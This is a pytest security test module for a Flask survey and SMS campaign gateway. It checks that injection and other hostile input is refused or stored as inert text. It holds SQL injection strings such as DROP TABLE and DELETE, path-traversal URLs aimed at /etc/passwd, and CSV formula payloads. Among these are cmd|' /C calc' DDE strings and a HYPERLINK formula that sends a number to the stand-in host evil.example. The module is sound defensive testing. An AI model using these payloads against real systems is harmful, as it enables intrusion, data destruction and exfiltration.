"""Hostile input from outside: injection strings in every field, stolen or guessed tokens, path
tricks, oversized and poisoned uploads. What an attacker sees is a 4xx (never a 5xx), and the
database is as it was wherever nothing should have changed.
"""

from __future__ import annotations

import io
import json
import re
import time
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, inspect, select
from werkzeug.test import TestResponse

from gateway.campaigns.models import Campaign, CampaignContact
from gateway.core.models import Base
from gateway.core.runtime import Runtime
from gateway.staff.models import Role
from gateway.staff.tokens import create_token, revoke_token
from gateway.web import auth
from gateway.web.api.campaigns import MAX_CSV_BYTES, MAX_JSON_BYTES
from gateway.web.dashboard.campaigns import UPLOAD_MAX_BYTES
from tests.phone import Phone
from tests.staff import csrf_token, make_staff, sign_in

INJECTIONS = (
    "' OR '1'='1",
    "1; DROP TABLE submissions;--",
    '" UNION SELECT token_hash, name FROM api_tokens--',
    "%27%20OR%201=1--",
    "'); DELETE FROM users; --",
)
# A NUL byte goes through SQLite, and makes PostgreSQL refuse the whole statement.
NUL = "a\x00b"
NUMBER = "+22376123456"
PLACEHOLDER = "00000000-0000-4000-8000-000000000000"


@pytest.fixture
def tokens(runtime: Runtime) -> dict[str, str]:
    """A live secret per role, and a revoked admin secret under ``revoked``."""
    made: dict[str, str] = {}
    with runtime.sessions.begin() as session:
        for role in Role:
            made[role.value] = create_token(session, name=role.value, role=role, actor="cli").secret
        old = create_token(session, name="old", role=Role.ADMIN, actor="cli")
        revoke_token(session, old.token.id, actor="cli")
        made["revoked"] = old.secret
    return made


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def row_counts(runtime: Runtime) -> dict[str, int]:
    """Every table the schema declares, and its rows; a dropped table would raise here."""
    with runtime.sessions() as session:
        present = set(inspect(session.get_bind()).get_table_names())
        assert {t.name for t in Base.metadata.sorted_tables} <= present
        return {
            table.name: session.scalar(select(func.count()).select_from(table)) or 0
            for table in Base.metadata.sorted_tables
        }


def not_5xx(response: TestResponse, where: str) -> None:
    assert response.status_code < 500, (where, response.get_data(as_text=True)[:300])


def json_error(response: TestResponse, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/json"
    body: dict[str, Any] = response.get_json()
    assert body["error"] and body["message"]
    return body


# -- injection strings ----------------------------------------------------------------------


def test_injection_strings_in_every_webhook_field_are_never_a_server_error(
    client: FlaskClient, runtime: Runtime, run_jobs: Callable[..., int]
) -> None:
    before = row_counts(runtime)
    ussd = Phone(client, NUMBER)
    ussd.dial()
    base_ussd = ussd.form("")
    base_sms = {
        "from": NUMBER,
        "to": "38412",
        "text": "bonjour",
        "date": "2026-03-01 09:00:00",
        "id": "ATXid_attack",
        "linkId": "",
        "networkCode": "61001",
    }
    base_dlr = {
        "id": "ATXid_unknown",
        "status": "Success",
        "phoneNumber": NUMBER,
        "networkCode": "61002",
        "retryCount": "0",
    }
    for n, payload in enumerate((*INJECTIONS, NUL)):
        for path, base in (
            ("/ussd", base_ussd),
            ("/sms/inbound", base_sms),
            ("/sms/delivery", base_dlr),
        ):
            for field in base:
                form = {**base, field: payload}
                if "id" in form and field != "id":
                    form["id"] = f"{form['id']}_{n}_{field}"  # not a duplicate AT retry
                not_5xx(client.post(path, data=form), f"{path} {field}={payload!r}")
    run_jobs()

    after = row_counts(runtime)
    # Households may have started a survey or been sent a reply; nothing else moved.
    unchanged = {"users", "api_tokens", "campaigns", "campaign_contacts", "audit_events"}
    assert {k: after[k] for k in unchanged & after.keys()} == {
        k: before[k] for k in unchanged & before.keys()
    }
    assert after.keys() == before.keys()


def test_injection_strings_in_api_queries_and_bodies_are_4xx_json(
    client: FlaskClient, runtime: Runtime, tokens: dict[str, str]
) -> None:
    admin = bearer(tokens["admin"])
    before = row_counts(runtime)
    for payload in INJECTIONS:
        quoted = payload.replace("/", "%2F").replace("#", "%23")
        for path in (
            f"/api/v1/flows/{quoted}/submissions",
            f"/api/v1/flows/{quoted}/report",
            f"/api/v1/flows/{quoted}/export.csv",
            f"/api/v1/campaigns/{quoted}",
            f"/api/v1/campaigns/{quoted}/submissions",
        ):
            response = client.get(path, headers=admin)
            not_5xx(response, path)
            assert response.mimetype == "application/json", path
        for path, param in (
            ("/api/v1/flows/return_intention/submissions", "since"),
            ("/api/v1/flows/return_intention/submissions", "until"),
            ("/api/v1/flows/return_intention/submissions", "campaign"),
            ("/api/v1/flows/return_intention/submissions", "cursor"),
            ("/api/v1/flows/return_intention/report", "language"),
            ("/api/v1/flows/return_intention/export.csv", "campaign"),
            ("/api/v1/flows/return_intention/export.hxl", "since"),
            ("/api/v1/audit", "actor"),
            ("/api/v1/audit", "action"),
            ("/api/v1/enumerators", "status"),
        ):
            response = client.get(path, query_string={param: payload}, headers=admin)
            not_5xx(response, f"{path}?{param}={payload!r}")
            assert response.status_code in (200, 404, 422), (path, param, response.status_code)
            if response.status_code == 200 and path.endswith("/submissions"):
                assert response.get_json()["total"] == 0, "a filter matched rows it should not"
        for body in (
            {"username": payload, "password": "correct horse battery", "role": "viewer"},
            {"username": "awa", "password": payload * 3, "role": payload},
        ):
            response = client.post("/api/v1/users", json=body, headers=admin)
            not_5xx(response, f"user {body}")
        for field in ("name", "role"):
            body = {"name": "script", "role": "viewer", field: payload}
            not_5xx(client.post("/api/v1/tokens", json=body, headers=admin), f"token {field}")
    after = row_counts(runtime)
    # Usernames must be [a-z0-9._-]: no injection string is one; nothing was made or lost.
    assert after == before


def test_injection_strings_in_a_campaign_are_stored_as_text(
    client: FlaskClient, runtime: Runtime, tokens: dict[str, str], run_jobs: Callable[..., int]
) -> None:
    manager = bearer(tokens["manager"])
    made = 0
    imports = []
    for payload in INJECTIONS:
        for field in ("name", "flow", "channel", "window", "timezone"):
            body = {
                "name": "Gao",
                "flow": "return_intention",
                "channel": "sms",
                "contacts": [{"phone": "+22376000001", "region": payload, "language": "fr"}],
                field: payload,
            }
            response = client.post("/api/v1/campaigns", json=body, headers=manager)
            not_5xx(response, f"campaign {field}={payload!r}")
            if response.status_code == 202:
                made += 1
                assert field == "name" and response.get_json()["campaign"]["name"] == payload
            else:
                assert response.status_code == 422 and response.mimetype == "application/json"
        contacts = [{"phone": payload}, {"phone": "+22376000002", "language": payload}]
        body = {"name": "Kayes", "flow": "return_intention", "channel": "sms", "contacts": contacts}
        response = client.post("/api/v1/campaigns", json=body, headers=manager)
        not_5xx(response, f"contacts {payload!r}")
        if response.status_code == 202:
            made += 1
            imports.append(response.headers["Location"])
    run_jobs()
    for location in imports:
        report = client.get(location, headers=manager).get_json()
        assert (report["status"], report["accepted"]) == ("done", 0), report
    with runtime.sessions() as session:
        names = list(session.scalars(select(Campaign.name)))
        regions = set(session.scalars(select(CampaignContact.region)))
    assert len(names) == made
    assert all(p in names for p in INJECTIONS)
    assert set(INJECTIONS) <= regions


def test_injection_strings_at_the_dashboard_login_sign_nobody_in(
    client: FlaskClient, runtime: Runtime
) -> None:
    make_staff(runtime)
    before = row_counts(runtime)
    for payload in INJECTIONS:
        for username, password in (
            (payload, "x"),
            ("admin", payload),
            (f"admin{payload}", payload),
        ):
            response = sign_in(client, username, password)
            not_5xx(response, f"login {username!r}")
            assert response.status_code in (200, 400, 422, 429)
            assert client.get("/dashboard/campaigns/").status_code == 302  # still signed out
    assert row_counts(runtime) == before


def test_a_nul_byte_in_staff_input_is_a_4xx_not_a_server_error(
    client: FlaskClient, runtime: Runtime, tokens: dict[str, str]
) -> None:
    make_staff(runtime)
    admin, manager = bearer(tokens["admin"]), bearer(tokens["manager"])
    campaign = {"name": "Gao", "flow": "return_intention", "channel": "sms"}
    contact = {"phone": "+22376000001"}
    calls: dict[str, Callable[[], TestResponse]] = {
        "GET campaign by id": lambda: client.get(f"/api/v1/campaigns/{NUL}", headers=admin),
        "GET submissions ?campaign": lambda: client.get(
            "/api/v1/flows/return_intention/submissions",
            query_string={"campaign": NUL},
            headers=admin,
        ),
        "GET audit ?actor": lambda: client.get(
            "/api/v1/audit", query_string={"actor": NUL}, headers=admin
        ),
        "POST campaign name": lambda: client.post(
            "/api/v1/campaigns",
            json={**campaign, "name": NUL, "contacts": [contact]},
            headers=manager,
        ),
        "POST campaign region": lambda: client.post(
            "/api/v1/campaigns",
            json={**campaign, "contacts": [{**contact, "region": NUL}]},
            headers=manager,
        ),
        "POST token name": lambda: client.post(
            "/api/v1/tokens", json={"name": NUL, "role": "viewer"}, headers=admin
        ),
        "dashboard login username": lambda: sign_in(client, f"admin{NUL}", "x"),
        "dashboard login password": lambda: sign_in(client, "admin", NUL * 6),
    }
    server_errors = {}
    for name, call in calls.items():
        response = call()
        if response.status_code >= 500:
            server_errors[name] = response.status_code
    assert server_errors == {}


# -- tokens and roles -----------------------------------------------------------------------


def guarded_routes(app: Flask) -> list[tuple[str, str]]:
    return sorted(
        (method, re.sub(r"<[^>]+>", PLACEHOLDER, rule.rule))
        for rule in app.url_map.iter_rules()
        if rule.rule.startswith("/api/") and rule.rule != "/api/v1/openapi.json"
        for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}
    )


def test_a_revoked_token_is_refused_on_every_route_and_method(
    app: Flask, client: FlaskClient, tokens: dict[str, str]
) -> None:
    routes = guarded_routes(app)
    assert len(routes) > 20
    for method, path in routes:
        response = client.open(path, method=method, headers=bearer(tokens["revoked"]), json={})
        assert "revoked" in json_error(response, 401)["message"], (method, path)
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
    # Replaying a revoked token is not guessing: the live admin token still works.
    assert client.get("/api/v1/me", headers=bearer(tokens["admin"])).status_code == 200


@pytest.mark.parametrize(
    ("caller", "method", "path"),
    [
        ("manager", "GET", "/api/v1/users"),
        ("manager", "POST", "/api/v1/tokens"),
        ("manager", "GET", "/api/v1/audit"),
        ("viewer", "POST", "/api/v1/campaigns"),
        ("viewer", "GET", "/api/v1/enumerators"),
        ("viewer", "POST", f"/api/v1/campaigns/{PLACEHOLDER}/start"),
    ],
)
def test_a_role_below_the_route_is_refused_with_403(
    client: FlaskClient,
    runtime: Runtime,
    tokens: dict[str, str],
    caller: str,
    method: str,
    path: str,
) -> None:
    before = row_counts(runtime)
    body = {"name": "x", "role": "admin", "flow": "return_intention", "channel": "sms"}
    response = client.open(path, method=method, headers=bearer(tokens[caller]), json=body)
    assert f"the token '{caller}' is {caller}" in json_error(response, 403)["message"]
    assert row_counts(runtime) == before


def test_guessing_tokens_is_rate_limited_per_address(
    client: FlaskClient, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "TOKEN_WINDOW_S", 2)
    guesser = {"REMOTE_ADDR": "198.51.100.7"}
    other = {"REMOTE_ADDR": "203.0.113.9"}
    for n in range(auth.TOKEN_ATTEMPTS):
        guess = client.get("/api/v1/me", headers=bearer(f"guess-{n}"), environ_base=guesser)
        json_error(guess, 401)
    limited = client.get("/api/v1/me", headers=bearer("guess-21"), environ_base=guesser)
    body = json_error(limited, 429)
    assert body["error"] == "Too Many Requests" and "try again in" in body["message"]
    assert 1 <= int(limited.headers["Retry-After"]) <= 2
    # Even the right token: a guesser must not learn which guess was right.
    right = client.get("/api/v1/me", headers=bearer(tokens["viewer"]), environ_base=guesser)
    json_error(right, 429)

    # Another address is not affected, good token or bad.
    assert (
        client.get("/api/v1/me", headers=bearer(tokens["viewer"]), environ_base=other).status_code
        == 200
    )
    json_error(client.get("/api/v1/me", headers=bearer("nope"), environ_base=other), 401)

    time.sleep(2.2)  # the window passes
    ok = client.get("/api/v1/me", headers=bearer(tokens["viewer"]), environ_base=guesser)
    assert ok.status_code == 200 and ok.get_json()["name"] == "viewer"


# -- paths ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/flows/..%2F..%2Fetc%2Fpasswd/export.csv",
        "/api/v1/flows/../../etc/passwd/export.csv",
        "/api/v1/flows/..%5C..%5Cwindows%5Cwin.ini/export.xlsx",
        "/api/v1/flows/return_intention%2F..%2F..%2Fsecrets/export.hxl",
        "/api/v1/flows/%2Fetc%2Fpasswd/export.csv",
        "/api/v1/flows/return_intention%00/export.csv",
        "/api/v1/flows/..%252F..%252Fetc/export.csv",
        "/api/v1/flows/%2E%2E/export.csv",
    ],
)
def test_path_tricks_in_export_names_are_404_json(
    client: FlaskClient, tokens: dict[str, str], path: str
) -> None:
    response = client.get(path, headers=bearer(tokens["viewer"]))
    json_error(response, 404)
    assert "root:" not in response.get_data(as_text=True)
    assert "Content-Disposition" not in response.headers


# -- uploads --------------------------------------------------------------------------------


def big_csv(size: int) -> bytes:
    line = b"+22376000001,fr,Mopti\n"
    return b"phone,language,region\n" + line * (size // len(line) + 1)


def campaigns_in(runtime: Runtime) -> int:
    with runtime.sessions() as session:
        return session.scalar(select(func.count()).select_from(Campaign)) or 0


def test_an_oversized_list_through_the_api_is_413_json_and_creates_nothing(
    client: FlaskClient, runtime: Runtime, tokens: dict[str, str]
) -> None:
    manager = bearer(tokens["manager"])
    form = {
        "name": "trop",
        "flow": "return_intention",
        "channel": "sms",
        "audience": (io.BytesIO(big_csv(MAX_CSV_BYTES)), "liste.csv"),
    }
    response = client.post(
        "/api/v1/campaigns", data=form, headers=manager, content_type="multipart/form-data"
    )
    body = json_error(response, 413)
    assert body["message"]
    as_json = json.dumps({"contacts": [{"phone": "+22376000001"}] * (MAX_JSON_BYTES // 20)})
    body = {"name": "trop", "flow": "return_intention", "channel": "sms"}
    response = client.post(
        "/api/v1/campaigns",
        data=as_json[:-1] + ", " + json.dumps(body)[1:],
        headers=manager,
        content_type="application/json",
    )
    json_error(response, 413)
    assert campaigns_in(runtime) == 0


def test_an_oversized_list_through_the_dashboard_is_413_html_and_creates_nothing(
    client: FlaskClient, runtime: Runtime
) -> None:
    make_staff(runtime)
    sign_in(client, "manager")
    page = client.get("/dashboard/campaigns/new").get_data(as_text=True)
    data = {
        "csrf_token": csrf_token(page),
        "name": "trop",
        "flow": "return_intention",
        "channel": "sms",
        "audience": (io.BytesIO(big_csv(UPLOAD_MAX_BYTES)), "liste.csv"),
    }
    response = client.post(
        "/dashboard/campaigns/new", data=data, content_type="multipart/form-data"
    )
    assert response.status_code == 413
    assert response.mimetype == "text/html"
    text = response.get_data(as_text=True)
    assert "trop gros" in text or "too large" in text
    assert campaigns_in(runtime) == 0


def test_formulas_in_a_list_are_refused_or_kept_as_inert_text(
    client: FlaskClient, runtime: Runtime, tokens: dict[str, str], run_jobs: Callable[..., int]
) -> None:
    manager = bearer(tokens["manager"])
    csv_text = (
        "phone,language,region\n"
        '"=HYPERLINK(""http://evil.example/?n=76000001"",""76000001"")",fr,Mopti\n'  # row 2
        "+cmd|' /C calc'!A0,fr,Gao\n"  # row 3
        "@SUM(1+1)*cmd|' /C calc'!A0,fr,Gao\n"  # row 4
        "-2+3+cmd|' /C calc'!A0,fr,Gao\n"  # row 5
        "+22376000005,=cmd|' /C calc'!A0,Gao\n"  # row 6: a formula as language
        '+22376000006,fr,"=HYPERLINK(""http://evil.example"",""clic"")"\n'  # row 7
        "+22376000007,fr,@SUM(A1:A9)\n"  # row 8
    )
    form = {
        "name": "Formules",
        "flow": "return_intention",
        "channel": "sms",
        "audience": (io.BytesIO(csv_text.encode()), "liste.csv"),
    }
    response = client.post(
        "/api/v1/campaigns", data=form, headers=manager, content_type="multipart/form-data"
    )
    assert response.status_code == 202, response.get_data(as_text=True)
    run_jobs()
    report = client.get(response.headers["Location"], headers=manager).get_json()
    refused = {row["row_number"]: row["reason"] for row in report["invalid"]}
    assert set(refused) >= {2, 3, 4, 5, 6}, refused
    for reason in refused.values():
        # Reasons are masked: no run of digits of a number comes back, nor the formula.
        assert not re.search(r"\d{5,}", reason), reason
        assert "HYPERLINK" not in reason and "cmd" not in reason
    with runtime.sessions() as session:
        kept = {
            c.row_number: (c.language, c.region) for c in session.scalars(select(CampaignContact))
        }
    # Kept regions are text as typed: no export or page ever writes a contact's region.
    assert kept == {
        7: ("fr", '=HYPERLINK("http://evil.example","clic")'),
        8: ("fr", "@SUM(A1:A9)"),
    }
    export = client.get(
        "/api/v1/flows/return_intention/export.csv", headers=bearer(tokens["viewer"])
    ).get_data(as_text=True)
    assert "HYPERLINK" not in export and "@SUM" not in export
